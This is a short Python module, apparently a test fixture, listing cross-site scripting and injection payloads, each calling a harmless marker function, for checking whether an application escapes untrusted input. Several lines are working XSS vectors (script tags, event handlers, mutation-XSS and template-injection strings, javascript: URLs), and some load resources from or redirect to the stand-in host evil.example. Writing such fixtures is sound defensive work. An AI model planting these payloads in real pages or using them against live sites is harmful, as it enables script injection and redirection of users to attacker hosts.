"""Words that become code wherever somebody forgets to escape them. Each calls the one mark."""

from __future__ import annotations

MARK = "oyezMark"
_JS = f"{MARK}()"

WORDS = (
    f"<script>{_JS}</script>",
    f'"><img src=x onerror={_JS}>',
    f"'><svg/onload={_JS}>",
    f"</title></textarea></script></style><script>{_JS}</script>",
    f"--><script>{_JS}</script><!--",
    f"]]><script>{_JS}</script>",
    f'" onmouseover="{_JS}" style="background:url(//evil.example/a)" x="',
    f"' onfocus='{_JS}' autofocus tabindex='1",
    f'<noscript><p title="</noscript><img src=x onerror={_JS}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_JS}>'>",
    f"<svg><style><img src=x onerror={_JS}></style></svg>",
    f"<svg><animate attributeName=href values=javascript:{_JS} /><a id=x><text>a</text></a></svg>",
    f'<iframe srcdoc="<script>parent.{_JS}</script>"></iframe>',
    f'<object data="data:text/html,<script>{_JS}</script>"></object><embed src=//evil.example/a>',
    f'<a href="jav&#x09;ascript:{_JS}">a</a>',
    f"<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/?{MARK}'>",
    f"<form action=//evil.example/{MARK}><button autofocus>a</button></form>",
    f"<link rel=stylesheet href=//evil.example/{MARK}><style>@import '//evil.example/a'</style>",
    f"<div hx-get=/health hx-trigger=load hx-on:load='{_JS}' hx-on::after-request='{_JS}'>a</div>",
    f"<input name=attributes><img name=getElementById src=x onerror={_JS}>",
    "{{ 7|add:7 }}{% debug %}{% load i18n %}" + f"${{{_JS}}}<%={_JS}%>",
    f"\u202e<script>{_JS}</script>\u2066\u200b\u0001\u0085",
    f"\uff1cscript\uff1e{_JS}\uff1c/script\uff1e&lt;script&gt;{_JS}&lt;/script&gt;",
    f"<scr\u0000ipt>{_JS}</scr\u0000ipt>".replace("\0", ""),
    f"<details open ontoggle={_JS}><summary>a</summary></details>",
)
ADDRESSES = (
    f"javascript:{_JS}",
    f"JaVaScRiPt:{_JS}//https://a.example/",
    f"\tjavascript:{_JS}",
    f"java\nscript:{_JS}",
    f"data:text/html,<script>{_JS}</script>",
    f"vbscript:{_JS}",
    f'https://a.example/"onmouseover="{_JS}',
    f"https://a.example/'><script>{_JS}</script>",
    f"//evil.example/{MARK}",
    f"https://a.example\\@evil.example/{MARK}",
)
